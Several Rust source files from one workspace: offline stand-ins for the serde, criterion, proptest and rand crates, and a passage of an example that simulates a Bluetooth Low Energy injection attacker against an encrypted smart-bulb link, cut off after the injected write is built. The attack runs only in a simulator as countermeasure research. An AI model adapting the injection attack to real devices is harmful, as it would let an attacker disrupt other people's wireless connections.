//! Offline shim of the subset of `serde` this workspace uses.
//!
//! The bench crate derives `Serialize` as a marker (its JSON writer is
//! hand-rolled), so the shim provides the trait name and a no-op derive.

#![forbid(unsafe_code)]

/// Marker trait standing in for `serde::Serialize`.
///
/// The workspace never serializes through serde's data model; deriving this
/// documents which types are part of the machine-readable report surface.
pub trait Serialize {}

pub use serde_derive::Serialize;
