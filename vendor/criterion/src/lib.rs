//! Offline shim of the subset of the `criterion` benchmarking API this
//! workspace uses.
//!
//! It measures with `std::time::Instant`, reports median time per iteration,
//! and prints one line per benchmark. It intentionally skips criterion's
//! statistical machinery (outlier analysis, HTML reports): the goal is that
//! `cargo bench` runs offline and produces comparable numbers across PRs.

#![forbid(unsafe_code)]
// Wall-clock measurement is this shim's entire purpose; the workspace
// clippy mirror of lint R8 (see clippy.toml) is opted out here.
#![allow(clippy::disallowed_methods)]

use std::time::{Duration, Instant};

/// Hint for how expensive per-iteration setup values are; the shim only uses
/// it to size batches.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BatchSize {
    SmallInput,
    LargeInput,
    PerIteration,
}

/// Top-level benchmark driver, analogous to `criterion::Criterion`.
#[derive(Debug)]
pub struct Criterion {
    sample_size: usize,
    warm_up: Duration,
    measure: Duration,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion {
            sample_size: 30,
            warm_up: Duration::from_millis(50),
            measure: Duration::from_millis(200),
        }
    }
}

impl Criterion {
    pub fn bench_function<F>(&mut self, id: &str, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut bencher = Bencher {
            sample_size: self.sample_size,
            warm_up: self.warm_up,
            measure: self.measure,
            median_ns: 0.0,
            iters: 0,
        };
        f(&mut bencher);
        report(id, &bencher);
        self
    }

    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.to_string(),
            sample_size: None,
        }
    }
}

/// Named group of benchmarks with optional per-group sample-size override.
#[derive(Debug)]
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
    sample_size: Option<usize>,
}

impl BenchmarkGroup<'_> {
    pub fn sample_size(&mut self, n: usize) -> &mut Self {
        self.sample_size = Some(n);
        self
    }

    pub fn bench_function<F>(&mut self, id: &str, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut bencher = Bencher {
            sample_size: self.sample_size.unwrap_or(self.criterion.sample_size),
            warm_up: self.criterion.warm_up,
            measure: self.criterion.measure,
            median_ns: 0.0,
            iters: 0,
        };
        f(&mut bencher);
        report(&format!("{}/{}", self.name, id), &bencher);
        self
    }

    pub fn finish(self) {}
}

/// Per-benchmark measurement loop, analogous to `criterion::Bencher`.
#[derive(Debug)]
pub struct Bencher {
    sample_size: usize,
    warm_up: Duration,
    measure: Duration,
    median_ns: f64,
    iters: u64,
}

impl Bencher {
    /// Times `routine` repeatedly and records the median per-iteration cost.
    pub fn iter<O, F>(&mut self, mut routine: F)
    where
        F: FnMut() -> O,
    {
        // Warm-up: also estimates per-iteration cost to size batches.
        let warm_start = Instant::now();
        let mut warm_iters: u64 = 0;
        while warm_start.elapsed() < self.warm_up {
            std::hint::black_box(routine());
            warm_iters += 1;
        }
        let per_iter = self.warm_up.as_nanos() as f64 / warm_iters.max(1) as f64;
        let budget_ns = self.measure.as_nanos() as f64 / self.sample_size.max(1) as f64;
        let batch = ((budget_ns / per_iter.max(1.0)).ceil() as u64).max(1);

        let mut samples = Vec::with_capacity(self.sample_size);
        let mut total_iters = 0u64;
        for _ in 0..self.sample_size {
            let start = Instant::now();
            for _ in 0..batch {
                std::hint::black_box(routine());
            }
            samples.push(start.elapsed().as_nanos() as f64 / batch as f64);
            total_iters += batch;
        }
        self.record(samples, total_iters);
    }

    /// Times `routine` on fresh values from `setup`, excluding setup cost.
    pub fn iter_batched<I, O, S, F>(&mut self, mut setup: S, mut routine: F, _size: BatchSize)
    where
        S: FnMut() -> I,
        F: FnMut(I) -> O,
    {
        let mut samples = Vec::with_capacity(self.sample_size);
        for _ in 0..self.sample_size {
            let input = setup();
            let start = Instant::now();
            std::hint::black_box(routine(input));
            samples.push(start.elapsed().as_nanos() as f64);
        }
        let n = samples.len() as u64;
        self.record(samples, n);
    }

    fn record(&mut self, mut samples: Vec<f64>, iters: u64) {
        samples.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
        self.median_ns = match samples.len() {
            0 => 0.0,
            n if n % 2 == 1 => samples[n / 2],
            n => (samples[n / 2 - 1] + samples[n / 2]) / 2.0,
        };
        self.iters = iters;
    }
}

fn report(id: &str, bencher: &Bencher) {
    let ns = bencher.median_ns;
    let human = if ns < 1_000.0 {
        format!("{ns:.1} ns")
    } else if ns < 1_000_000.0 {
        format!("{:.2} µs", ns / 1_000.0)
    } else if ns < 1_000_000_000.0 {
        format!("{:.2} ms", ns / 1_000_000.0)
    } else {
        format!("{:.2} s", ns / 1_000_000_000.0)
    };
    println!("{id:<50} time: [{human}/iter]   iters: {}", bencher.iters);
}

/// Declares a group of benchmark functions, mirroring
/// `criterion::criterion_group!`.
#[macro_export]
macro_rules! criterion_group {
    ($group:ident, $($target:path),+ $(,)?) => {
        pub fn $group() {
            let mut criterion = $crate::Criterion::default();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares the benchmark entry point, mirroring `criterion::criterion_main!`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn iter_reports_positive_time() {
        let mut c = Criterion {
            sample_size: 5,
            warm_up: Duration::from_millis(1),
            measure: Duration::from_millis(5),
        };
        let mut ran = false;
        c.bench_function("smoke", |b| {
            b.iter(|| std::hint::black_box(3u64.wrapping_mul(7)));
            ran = true;
        });
        assert!(ran);
    }

    #[test]
    fn group_respects_sample_size_and_finishes() {
        let mut c = Criterion::default();
        let mut group = c.benchmark_group("g");
        group.sample_size(3);
        group.bench_function("f", |b| {
            b.iter_batched(|| 21u64, |x| x * 2, BatchSize::SmallInput)
        });
        group.finish();
    }
}
