//! Offline shim of the subset of `proptest` this workspace uses.
//!
//! The build environment has no crates.io access, so property tests run on a
//! small, deterministic, pure-std engine: strategies are generators over a
//! seeded xoshiro256++ stream, and the `proptest!` macro expands each
//! property into a loop over `PROPTEST_CASES` generated cases (default 64).
//!
//! Differences from real proptest, by design:
//! - no shrinking: a failing case reports its case index and panics;
//!   reproduce by keeping the deterministic seed and case count.
//! - `prop_assert*` are plain `assert*` (they panic instead of returning
//!   `TestCaseError`).

#![forbid(unsafe_code)]

pub mod test_runner {
    /// Deterministic xoshiro256++ stream used to generate test cases.
    #[derive(Debug, Clone)]
    pub struct TestRng {
        s: [u64; 4],
    }

    impl TestRng {
        pub fn from_seed(seed: u64) -> Self {
            let mut x = seed;
            let mut next = || {
                x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
                let mut z = x;
                z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
                z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
                z ^ (z >> 31)
            };
            TestRng {
                s: [next(), next(), next(), next()],
            }
        }

        pub fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }

        /// Unbiased draw in `[0, bound)`; `bound` must be non-zero.
        pub fn below(&mut self, bound: u64) -> u64 {
            debug_assert!(bound > 0);
            let zone = u64::MAX - ((u64::MAX as u128 + 1) % bound as u128) as u64;
            loop {
                let draw = self.next_u64();
                if draw <= zone {
                    return draw % bound;
                }
            }
        }

        /// 53-bit uniform draw in `[0, 1)`.
        pub fn unit_f64(&mut self) -> f64 {
            (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
        }
    }

    /// Per-property driver: holds the case budget and the case RNG.
    #[derive(Debug)]
    pub struct TestRunner {
        pub cases: u32,
        pub rng: TestRng,
    }

    impl TestRunner {
        /// Seeds deterministically from the property name so every property
        /// explores an independent stream, stable across runs.
        pub fn for_property(name: &str) -> Self {
            let mut seed: u64 = 0xcbf2_9ce4_8422_2325;
            for byte in name.bytes() {
                seed ^= u64::from(byte);
                seed = seed.wrapping_mul(0x0000_0100_0000_01B3);
            }
            let cases = std::env::var("PROPTEST_CASES")
                .ok()
                .and_then(|v| v.parse().ok())
                .unwrap_or(64);
            TestRunner {
                cases,
                rng: TestRng::from_seed(seed),
            }
        }
    }
}

pub mod strategy {
    use crate::test_runner::TestRng;
    use std::marker::PhantomData;
    use std::ops::Range;

    /// A generator of values of type `Value`, mirroring `proptest::Strategy`.
    pub trait Strategy {
        type Value;

        fn generate(&self, rng: &mut TestRng) -> Self::Value;

        fn prop_map<O, F>(self, f: F) -> Map<Self, F>
        where
            Self: Sized,
            F: Fn(Self::Value) -> O,
        {
            Map { inner: self, f }
        }

        fn prop_filter<F>(self, reason: &'static str, f: F) -> Filter<Self, F>
        where
            Self: Sized,
            F: Fn(&Self::Value) -> bool,
        {
            Filter {
                inner: self,
                f,
                reason,
            }
        }

        fn boxed(self) -> BoxedStrategy<Self::Value>
        where
            Self: Sized + 'static,
        {
            Box::new(self)
        }
    }

    /// Boxed, type-erased strategy.
    pub type BoxedStrategy<T> = Box<dyn Strategy<Value = T>>;

    impl<T> Strategy for Box<dyn Strategy<Value = T>> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            (**self).generate(rng)
        }
    }

    impl<S: Strategy + ?Sized> Strategy for &S {
        type Value = S::Value;
        fn generate(&self, rng: &mut TestRng) -> S::Value {
            (**self).generate(rng)
        }
    }

    /// Always produces a clone of the given value.
    #[derive(Debug, Clone)]
    pub struct Just<T: Clone>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;
        fn generate(&self, _rng: &mut TestRng) -> T {
            self.0.clone()
        }
    }

    /// Output of [`Strategy::prop_map`].
    pub struct Map<S, F> {
        inner: S,
        f: F,
    }

    impl<S, O, F> Strategy for Map<S, F>
    where
        S: Strategy,
        F: Fn(S::Value) -> O,
    {
        type Value = O;
        fn generate(&self, rng: &mut TestRng) -> O {
            (self.f)(self.inner.generate(rng))
        }
    }

    /// Output of [`Strategy::prop_filter`]; retries generation until the
    /// predicate accepts (bounded, then panics).
    pub struct Filter<S, F> {
        inner: S,
        f: F,
        reason: &'static str,
    }

    impl<S, F> Strategy for Filter<S, F>
    where
        S: Strategy,
        F: Fn(&S::Value) -> bool,
    {
        type Value = S::Value;
        fn generate(&self, rng: &mut TestRng) -> S::Value {
            for _ in 0..1_000 {
                let candidate = self.inner.generate(rng);
                if (self.f)(&candidate) {
                    return candidate;
                }
            }
            panic!(
                "prop_filter rejected 1000 consecutive candidates: {}",
                self.reason
            );
        }
    }

    /// Uniform choice between boxed alternatives (backs `prop_oneof!`).
    pub struct Union<T> {
        options: Vec<BoxedStrategy<T>>,
    }

    impl<T> Union<T> {
        pub fn new(options: Vec<BoxedStrategy<T>>) -> Self {
            assert!(
                !options.is_empty(),
                "prop_oneof! requires at least one option"
            );
            Union { options }
        }
    }

    impl<T> Strategy for Union<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            let idx = rng.below(self.options.len() as u64) as usize;
            self.options[idx].generate(rng)
        }
    }

    /// Strategy produced by [`crate::arbitrary::any`].
    pub struct Any<T>(pub(crate) PhantomData<T>);

    impl<T: crate::arbitrary::Arbitrary> Strategy for Any<T> {
        type Value = T;
        fn generate(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }

    macro_rules! impl_int_range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for Range<$t> {
                type Value = $t;
                fn generate(&self, rng: &mut TestRng) -> $t {
                    assert!(
                        self.start < self.end,
                        "empty range strategy {}..{}",
                        self.start,
                        self.end
                    );
                    let span = (self.end as u128) - (self.start as u128);
                    // Spans here always fit u64 (the widest source is u64).
                    self.start + (rng.below(span as u64) as $t)
                }
            }
        )*};
    }

    impl_int_range_strategy!(u8, u16, u32, u64, usize, i32, i64);

    impl Strategy for Range<f64> {
        type Value = f64;
        fn generate(&self, rng: &mut TestRng) -> f64 {
            assert!(self.start < self.end, "empty f64 range strategy");
            self.start + (self.end - self.start) * rng.unit_f64()
        }
    }

    macro_rules! impl_tuple_strategy {
        ($($name:ident),+) => {
            impl<$($name: Strategy),+> Strategy for ($($name,)+) {
                type Value = ($($name::Value,)+);
                #[allow(non_snake_case)]
                fn generate(&self, rng: &mut TestRng) -> Self::Value {
                    let ($($name,)+) = self;
                    ($($name.generate(rng),)+)
                }
            }
        };
    }

    impl_tuple_strategy!(A);
    impl_tuple_strategy!(A, B);
    impl_tuple_strategy!(A, B, C);
    impl_tuple_strategy!(A, B, C, D);
    impl_tuple_strategy!(A, B, C, D, E);
    impl_tuple_strategy!(A, B, C, D, E, F);
}

pub mod arbitrary {
    use crate::strategy::Any;
    use crate::test_runner::TestRng;
    use std::marker::PhantomData;

    /// Types with a canonical uniform generator, mirroring
    /// `proptest::arbitrary::Arbitrary`.
    pub trait Arbitrary: Sized {
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    /// Strategy over all values of `T`, mirroring `proptest::prelude::any`.
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any(PhantomData)
    }

    macro_rules! impl_arbitrary_uint {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                fn arbitrary(rng: &mut TestRng) -> $t {
                    // Truncation here is the point: take the low bits of the
                    // 64-bit draw.
                    rng.next_u64() as $t
                }
            }
        )*};
    }

    impl_arbitrary_uint!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }

    impl Arbitrary for f64 {
        fn arbitrary(rng: &mut TestRng) -> f64 {
            rng.unit_f64()
        }
    }

    impl<T: Arbitrary, const N: usize> Arbitrary for [T; N] {
        fn arbitrary(rng: &mut TestRng) -> [T; N] {
            std::array::from_fn(|_| T::arbitrary(rng))
        }
    }
}

pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;
    use std::collections::BTreeSet;
    use std::ops::Range;

    /// Strategy for `Vec`s whose length is drawn from `len`, mirroring
    /// `proptest::collection::vec`.
    pub fn vec<S: Strategy>(element: S, len: Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, len }
    }

    pub struct VecStrategy<S> {
        element: S,
        len: Range<usize>,
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let span = self.len.end.saturating_sub(self.len.start).max(1);
            let len = self.len.start + rng.below(span as u64) as usize;
            (0..len).map(|_| self.element.generate(rng)).collect()
        }
    }

    /// Strategy for `BTreeSet`s with a size drawn from `size`, mirroring
    /// `proptest::collection::btree_set`. Generation stops early if the
    /// element domain is exhausted before the target size is reached.
    pub fn btree_set<S>(element: S, size: Range<usize>) -> BTreeSetStrategy<S>
    where
        S: Strategy,
        S::Value: Ord,
    {
        BTreeSetStrategy { element, size }
    }

    pub struct BTreeSetStrategy<S> {
        element: S,
        size: Range<usize>,
    }

    impl<S> Strategy for BTreeSetStrategy<S>
    where
        S: Strategy,
        S::Value: Ord,
    {
        type Value = BTreeSet<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> BTreeSet<S::Value> {
            let span = self.size.end.saturating_sub(self.size.start).max(1);
            let target = self.size.start + rng.below(span as u64) as usize;
            let mut set = BTreeSet::new();
            let mut stale = 0usize;
            while set.len() < target && stale < 1_000 {
                if set.insert(self.element.generate(rng)) {
                    stale = 0;
                } else {
                    stale += 1;
                }
            }
            set
        }
    }
}

pub mod prelude {
    pub use crate::arbitrary::{any, Arbitrary};
    pub use crate::strategy::{BoxedStrategy, Just, Strategy};
    pub use crate::{
        prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest,
    };
}

/// Expands properties of the form
/// `#[test] fn name(arg in strategy, ...) { body }` into deterministic
/// case loops. Mirrors `proptest::proptest!` for ident-bound arguments.
#[macro_export]
macro_rules! proptest {
    () => {};
    (
        $(#[$meta:meta])*
        fn $name:ident($($arg:ident in $strategy:expr),+ $(,)?) $body:block
        $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            let mut runner =
                $crate::test_runner::TestRunner::for_property(stringify!($name));
            for case in 0..runner.cases {
                let result = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
                    $(
                        let $arg =
                            $crate::strategy::Strategy::generate(&($strategy), &mut runner.rng);
                    )+
                    $body
                }));
                if let Err(panic) = result {
                    eprintln!(
                        "proptest property {} failed at case {}/{} (deterministic seed)",
                        stringify!($name),
                        case,
                        runner.cases
                    );
                    std::panic::resume_unwind(panic);
                }
            }
        }
        $crate::proptest! { $($rest)* }
    };
}

/// Panicking stand-in for `proptest::prop_assert!`.
#[macro_export]
macro_rules! prop_assert {
    ($($tt:tt)*) => { assert!($($tt)*) };
}

/// Panicking stand-in for `proptest::prop_assert_eq!`.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($tt:tt)*) => { assert_eq!($($tt)*) };
}

/// Panicking stand-in for `proptest::prop_assert_ne!`.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($tt:tt)*) => { assert_ne!($($tt)*) };
}

/// Stand-in for `proptest::prop_assume!`: the shim has no rejection
/// bookkeeping, so a failed assumption simply ends the current case early
/// (it counts as a passing case rather than being replaced).
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !$cond {
            return;
        }
    };
}

/// Uniform choice between strategies, mirroring `proptest::prop_oneof!`.
#[macro_export]
macro_rules! prop_oneof {
    ($($strategy:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $( Box::new($strategy) as $crate::strategy::BoxedStrategy<_> ),+
        ])
    };
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = crate::test_runner::TestRng::from_seed(1);
        for _ in 0..1_000 {
            let v = (3u8..17).generate(&mut rng);
            assert!((3..17).contains(&v));
        }
    }

    #[test]
    fn union_picks_all_options() {
        let mut rng = crate::test_runner::TestRng::from_seed(2);
        let s = prop_oneof![Just(1u8), Just(2u8), Just(3u8)];
        let mut seen = std::collections::BTreeSet::new();
        for _ in 0..200 {
            seen.insert(s.generate(&mut rng));
        }
        assert_eq!(seen.len(), 3);
    }

    #[test]
    fn vec_and_set_respect_sizes() {
        let mut rng = crate::test_runner::TestRng::from_seed(3);
        for _ in 0..100 {
            let v = crate::collection::vec(any::<u8>(), 2..5).generate(&mut rng);
            assert!((2..5).contains(&v.len()));
            let s = crate::collection::btree_set(0u8..4, 2..4).generate(&mut rng);
            assert!(s.len() >= 2 && s.len() < 4);
        }
    }

    #[test]
    fn prop_map_applies() {
        let mut rng = crate::test_runner::TestRng::from_seed(4);
        let doubled = (0u8..10).prop_map(|x| u16::from(x) * 2);
        for _ in 0..50 {
            assert_eq!(doubled.generate(&mut rng) % 2, 0);
        }
    }

    proptest! {
        #[test]
        fn macro_smoke(a in 0u8..10, b in any::<bool>(), bytes in crate::collection::vec(any::<u8>(), 0..8)) {
            prop_assert!(a < 10);
            prop_assert_eq!(b, b);
            prop_assert!(bytes.len() < 8);
        }
    }
}
