//! No-op `#[derive(Serialize)]` backing the offline serde shim.
//!
//! It parses just enough of the item (the type name and generics arity) to
//! emit a marker-trait impl, without depending on syn/quote.

use proc_macro::{TokenStream, TokenTree};

/// Derives the shim's marker `Serialize` trait for the annotated type.
#[proc_macro_derive(Serialize)]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let mut tokens = input.into_iter();
    let mut name = None;
    while let Some(tree) = tokens.next() {
        if let TokenTree::Ident(ident) = &tree {
            let word = ident.to_string();
            if word == "struct" || word == "enum" {
                if let Some(TokenTree::Ident(type_name)) = tokens.next() {
                    name = Some(type_name.to_string());
                }
                break;
            }
        }
    }
    match name {
        // Generic report types are not used in this workspace, so a plain
        // impl (no generics forwarding) is sufficient.
        Some(name) => format!("impl serde::Serialize for {name} {{}}")
            .parse()
            .unwrap_or_default(),
        None => TokenStream::new(),
    }
}
