//! Offline shim of the subset of the `rand` 0.8 API this workspace uses.
//!
//! The build environment has no access to crates.io, so the workspace vendors
//! a tiny, deterministic, pure-std stand-in. `SmallRng` here is xoshiro256++
//! seeded through SplitMix64 — the same construction the real `rand`
//! small-rng family uses on 64-bit targets — so streams are high quality and
//! reproducible from a seed, which is all the simulator requires.

#![forbid(unsafe_code)]

use std::fmt;
use std::ops::Range;

/// Error type returned by [`RngCore::try_fill_bytes`]. The shim generators
/// are infallible, so this is never constructed, but the type must exist for
/// API compatibility.
#[derive(Debug)]
pub struct Error;

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("rng error")
    }
}

impl std::error::Error for Error {}

/// Core trait mirroring `rand::RngCore`.
pub trait RngCore {
    fn next_u32(&mut self) -> u32;
    fn next_u64(&mut self) -> u64;
    fn fill_bytes(&mut self, dest: &mut [u8]);
    fn try_fill_bytes(&mut self, dest: &mut [u8]) -> Result<(), Error> {
        self.fill_bytes(dest);
        Ok(())
    }
}

/// Mirror of `rand::SeedableRng`, restricted to the `seed_from_u64`
/// constructor the workspace uses.
pub trait SeedableRng: Sized {
    fn seed_from_u64(seed: u64) -> Self;
}

/// Types that can be sampled uniformly from an RNG via [`Rng::gen`].
pub trait Standard: Sized {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

impl Standard for u8 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u32() >> 24) as u8
    }
}

impl Standard for u16 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u32() >> 16) as u16
    }
}

impl Standard for u32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32()
    }
}

impl Standard for u64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64()
    }
}

impl Standard for usize {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() as usize
    }
}

impl Standard for bool {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u32() & 1 == 1
    }
}

impl Standard for f64 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        // 53 random bits mapped to [0, 1), matching rand's Standard for f64.
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for f32 {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u32() >> 8) as f32 * (1.0 / (1u32 << 24) as f32)
    }
}

/// Ranges that [`Rng::gen_range`] accepts.
pub trait SampleRange {
    type Output;
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> Self::Output;
}

macro_rules! impl_int_range {
    ($($t:ty),*) => {$(
        impl SampleRange for Range<$t> {
            type Output = $t;
            fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> $t {
                assert!(self.start < self.end, "gen_range called with empty range");
                let span = (self.end as u128) - (self.start as u128);
                // Unbiased rejection sampling over a 64-bit draw.
                let zone = u64::MAX - ((u64::MAX as u128 + 1) % span) as u64;
                loop {
                    let draw = rng.next_u64();
                    if draw <= zone {
                        return self.start + ((draw as u128 % span) as $t);
                    }
                }
            }
        }
    )*};
}

impl_int_range!(u8, u16, u32, u64, usize);

impl SampleRange for Range<f64> {
    type Output = f64;
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> f64 {
        assert!(self.start < self.end, "gen_range called with empty range");
        self.start + (self.end - self.start) * f64::sample(rng)
    }
}

/// Mirror of `rand::Rng`: convenience sampling on top of [`RngCore`].
pub trait Rng: RngCore {
    fn gen<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    fn gen_range<S: SampleRange>(&mut self, range: S) -> S::Output {
        range.sample_from(self)
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

pub mod rngs {
    use super::{RngCore, SeedableRng};

    /// xoshiro256++ generator seeded via SplitMix64.
    #[derive(Debug, Clone)]
    pub struct SmallRng {
        s: [u64; 4],
    }

    impl SeedableRng for SmallRng {
        fn seed_from_u64(seed: u64) -> Self {
            // SplitMix64 expansion of the 64-bit seed into the 256-bit state,
            // as recommended by the xoshiro authors.
            let mut x = seed;
            let mut next = || {
                x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
                let mut z = x;
                z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
                z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
                z ^ (z >> 31)
            };
            SmallRng {
                s: [next(), next(), next(), next()],
            }
        }
    }

    impl RngCore for SmallRng {
        fn next_u32(&mut self) -> u32 {
            (self.next_u64() >> 32) as u32
        }

        fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }

        fn fill_bytes(&mut self, dest: &mut [u8]) {
            for chunk in dest.chunks_mut(8) {
                let word = self.next_u64().to_le_bytes();
                chunk.copy_from_slice(&word[..chunk.len()]);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::SmallRng;
    use super::{Rng, RngCore, SeedableRng};

    #[test]
    fn deterministic_from_seed() {
        let mut a = SmallRng::seed_from_u64(42);
        let mut b = SmallRng::seed_from_u64(42);
        for _ in 0..64 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn different_seeds_differ() {
        let mut a = SmallRng::seed_from_u64(1);
        let mut b = SmallRng::seed_from_u64(2);
        assert_ne!(a.next_u64(), b.next_u64());
    }

    #[test]
    fn unit_interval_f64() {
        let mut rng = SmallRng::seed_from_u64(9);
        for _ in 0..1_000 {
            let x: f64 = rng.gen();
            assert!((0.0..1.0).contains(&x));
        }
    }

    #[test]
    fn gen_range_is_in_bounds_and_hits_extremes() {
        let mut rng = SmallRng::seed_from_u64(5);
        let mut seen_low = false;
        let mut seen_high = false;
        for _ in 0..10_000 {
            let v = rng.gen_range(0u64..7);
            assert!(v < 7);
            seen_low |= v == 0;
            seen_high |= v == 6;
        }
        assert!(seen_low && seen_high);
    }

    #[test]
    fn fill_bytes_covers_partial_chunks() {
        let mut rng = SmallRng::seed_from_u64(3);
        let mut buf = [0u8; 13];
        rng.fill_bytes(&mut buf);
        assert!(buf.iter().any(|&b| b != 0));
    }
}
