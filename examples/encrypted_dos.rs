//! Countermeasure demo (paper §IV/§VIII): inject into an *encrypted*
//! connection. The payload is never accepted — but the MIC failure tears
//! the connection down, demonstrating the residual availability impact.
//!
//! Run with: `cargo run -p injectable-examples --bin encrypted_dos`

use std::cell::RefCell;
use std::rc::Rc;

use ble_devices::{bulb_payloads, Central, Lightbulb};
use ble_host::att::AttPdu;
use ble_link::ConnectionParams;
use ble_phy::{Environment, NodeConfig, Position, Simulation};
use injectable::{Attacker, AttackerConfig, Mission};
use simkit::{DriftClock, Duration, SimRng};

fn main() {
    let mut rng = SimRng::seed_from(11);
    let mut sim = Simulation::new(Environment::indoor_default(), rng.fork());

    let bulb = Rc::new(RefCell::new(Lightbulb::new(0xB1, rng.fork())));
    let control = bulb.borrow().control_handle();
    let bulb_addr = bulb.borrow().ll.address();
    let params = ConnectionParams::typical(&mut rng, 36);
    let mut central_obj = Central::new(0xA0, bulb_addr, params, rng.fork());
    // The countermeasure: pair and encrypt the link.
    central_obj.pair_on_connect = true;
    let central = Rc::new(RefCell::new(central_obj));
    let attacker = Rc::new(RefCell::new(Attacker::new(AttackerConfig {
        target_slave: Some(bulb_addr),
        ..AttackerConfig::default()
    })));

    let b = sim.add_node(
        NodeConfig::new("bulb", Position::new(0.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        bulb.clone(),
    );
    let c = sim.add_node(
        NodeConfig::new("phone", Position::new(2.0, 0.0))
            .with_clock(DriftClock::realistic(50.0, &mut rng).with_jitter_us(1.0)),
        central.clone(),
    );
    let a = sim.add_node(
        NodeConfig::new("attacker", Position::new(0.0, 2.0))
            .with_clock(DriftClock::realistic(20.0, &mut rng).with_jitter_us(1.0)),
        attacker.clone(),
    );
    sim.with_ctx(b, |ctx| bulb.borrow_mut().start(ctx));
    sim.with_ctx(c, |ctx| central.borrow_mut().start(ctx));
    sim.with_ctx(a, |ctx| attacker.borrow_mut().start(ctx));

    // Wait for pairing (legacy Just Works) and AES-CCM link encryption.
    for _ in 0..100 {
        sim.run_for(Duration::from_millis(100));
        if central.borrow().host.is_encrypted() && bulb.borrow().host.is_encrypted() {
            break;
        }
    }
    println!(
        "link encrypted: central={} bulb={}",
        central.borrow().host.is_encrypted(),
        bulb.borrow().host.is_encrypted()
    );
    assert!(bulb.borrow().host.is_encrypted());
    sim.run_for(Duration::from_millis(500));

    // Attack the encrypted connection with a plaintext write.
    let att = AttPdu::WriteRequest {
        handle: control,
        value: bulb_payloads::power_on(),
    }
    .to_bytes();
